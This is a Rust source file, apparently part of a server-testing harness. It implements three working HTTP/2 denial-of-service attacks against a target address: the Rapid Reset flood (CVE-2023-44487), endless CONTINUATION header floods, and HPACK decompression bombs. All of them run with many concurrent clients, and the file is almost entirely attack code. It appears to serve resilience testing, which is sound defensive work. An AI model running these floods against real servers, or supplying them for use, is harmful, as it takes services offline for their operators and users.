//! HTTP/2 (RFC 9113), frame by frame, as no client should speak it.

use std::{
    io::{ErrorKind, Read, Write},
    net::{SocketAddr, TcpStream},
    thread,
    time::{Duration, Instant},
};

use anyhow::{Result, anyhow};

use crate::exercise::{
    figures::{Bound, Figures, count},
    server::Server,
};

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: [u8; 4] = 8_u32.to_be_bytes();
/// `GET /` of `http://localhost` (RFC 7541: entries 2, 4 and 6 of the static table, and a literal after 1).
const REQUEST: &[u8] = b"\x82\x84\x86\x01\x09localhost";
/// Pairs of frames that are sent at a time.
const BATCH: usize = 64;
const PATIENCE: Duration = Duration::from_secs(5);
/// Streams that one connection opens: their numbers have 31 bits.
const STREAMS: u32 = 1 << 20;

/// Streams that are opened and reset at once (CVE-2023-44487).
pub(super) fn resets(server: &Server, resets: usize, figures: &mut Figures) -> Result<()> {
    let start = Instant::now();
    let (mut done, mut connections) = (0, 0);
    while done < resets && start.elapsed() < Duration::from_mins(1) {
        connections += 1;
        done += spam(server.address, resets - done, |stream| {
            let mut frames = frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST);
            frames.extend(frame(RST_STREAM, 0, stream, &CANCEL));
            frames
        })?;
    }
    figures.note("streams opened and reset", count(done), "", Bound::AtLeast(count(resets)));
    figures.note("connections it took", count(connections), "", Bound::Any);
    figures.note("within", start.elapsed().as_secs_f64(), "s", Bound::Any);
    Ok(())
}

/// Sends what `frames` says for stream after stream. Says how many were sent before the connection ended.
fn spam(address: SocketAddr, most: usize, frames: impl Fn(u32) -> Vec<u8>) -> Result<usize> {
    let mut stream = open(address)?;
    let reader = stream.try_clone()?;
    let reading = thread::spawn(move || drain(reader));
    let mut sent = 0;
    let mut number = 1;
    while sent < most && number < STREAMS * 2 && !reading.is_finished() {
        let mut batch = Vec::new();
        let size = BATCH.min(most - sent);
        for _ in 0..size {
            batch.extend(frames(number));
            number += 2;
        }
        if stream.write_all(&batch).is_err() {
            break;
        }
        sent += size;
    }
    let _ = stream.shutdown(std::net::Shutdown::Both);
    reading.join().map_err(|_| anyhow!("the reader panicked"))?;
    Ok(sent)
}

/// Header sections that go on and on.
pub(super) fn continuations(
    server: &Server,
    clients: usize,
    time: Duration,
    figures: &mut Figures,
) -> Result<()> {
    // Literals that nobody has to remember: `x: xxxx..`.
    let field = [&[0x00, 0x01, b'x', 0x7f, 0x81, 0x06][..], &[b'x'; 896]].concat();
    let piece = frame(CONTINUATION, 0, 1, &field.repeat(16));
    let most = everywhere(clients, time, || {
        let mut stream = open(server.address)?;
        stream.write_all(&frame(HEADERS, END_STREAM, 1, REQUEST))?;
        Ok(until_closed(&mut stream, &piece))
    })?;
    figures.note("header sections without an end", count(most.len()), "", Bound::AtLeast(count(clients)));
    let most = most.into_iter().max().unwrap_or_default();
    figures.note("most that was taken of one", count(most) / 1_048_576.0, "MiB", Bound::AtMost(16.0));
    Ok(())
}

/// Header sections of kilobytes that are megabytes when unpacked: one long value, referred to again and again.
pub(super) fn bombs(server: &Server, clients: usize, time: Duration, figures: &mut Figures) -> Result<()> {
    // `x: xxxx..` is remembered, and is then entry 62.
    let mut block = REQUEST.to_vec();
    block.extend([0x40, 0x01, b'x', 0x7f, 0x81, 0x1e]);
    block.extend([b'x'; 3_968]);
    block.extend([0xbe; 8_000]);
    let streams = everywhere(clients, time, || {
        spam(server.address, 2_000, |stream| {
            let (first, rest) = block.split_at(block.len() / 2);
            let mut frames = frame(HEADERS, END_STREAM, stream, first);
            frames.extend(frame(CONTINUATION, END_HEADERS, stream, rest));
            frames
        })
    })?;
    let total = streams.iter().sum();
    figures.note("connections", count(streams.len()), "", Bound::AtLeast(count(clients)));
    figures.note("header sections of 32 MB", count(total), "", Bound::AtLeast(1.0));
    Ok(())
}

/// Does the same at so many places for so long, and says what came of each.
fn everywhere(clients: usize, time: Duration, one: impl Fn() -> Result<usize> + Sync) -> Result<Vec<usize>> {
    let until = Instant::now() + time;
    thread::scope(|scope| {
        let client = || {
            let mut outcomes = Vec::new();
            while Instant::now() < until {
                outcomes.push(one()?);
            }
            Ok(outcomes)
        };
        let clients: Vec<_> = (0..clients).map(|_| scope.spawn(client)).collect();
        let ended =
            clients.into_iter().map(|client| client.join().map_err(|_| anyhow!("a client panicked"))?);
        Ok(ended.collect::<Result<Vec<Vec<usize>>>>()?.into_iter().flatten().collect())
    })
}

/// A connection whose preface is sent (section 3.4).
fn open(address: SocketAddr) -> Result<TcpStream> {
    let mut stream = TcpStream::connect(address)?;
    stream.set_nodelay(true)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.set_write_timeout(Some(PATIENCE))?;
    let mut preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    preface.extend(frame(SETTINGS, 0, 0, &[]));
    stream.write_all(&preface)?;
    Ok(stream)
}

/// Sends the same until nobody takes it. Says how many bytes were taken.
fn until_closed(stream: &mut TcpStream, piece: &[u8]) -> usize {
    let mut sent = 0;
    while sent < 64 << 20 {
        match stream.write(piece) {
            Ok(written) => sent += written,
            Err(_) => break,
        }
    }
    sent
}

/// Reads to the end: whoever does not read is slow, which is another exercise.
fn drain(mut stream: TcpStream) {
    let mut waste = vec![0; 64 * 1_024];
    loop {
        match stream.read(&mut waste) {
            Ok(0) => return,
            Ok(_) => {}
            Err(error) if matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::Interrupted) => {}
            Err(_) => return,
        }
    }
}

/// A frame (section 4.1).
fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or(u32::MAX).to_be_bytes();
    let mut frame = vec![length[1], length[2], length[3], kind, flags];
    frame.extend(stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_frame_has_its_length_in_front() {
        assert_eq!(frame(RST_STREAM, 0, 3, &CANCEL), [0, 0, 4, 3, 0, 0, 0, 0, 3, 0, 0, 0, 8]);
        assert_eq!(frame(HEADERS, 5, 1, &[0; 300])[..4], [0, 1, 44, 1]);
    }
}
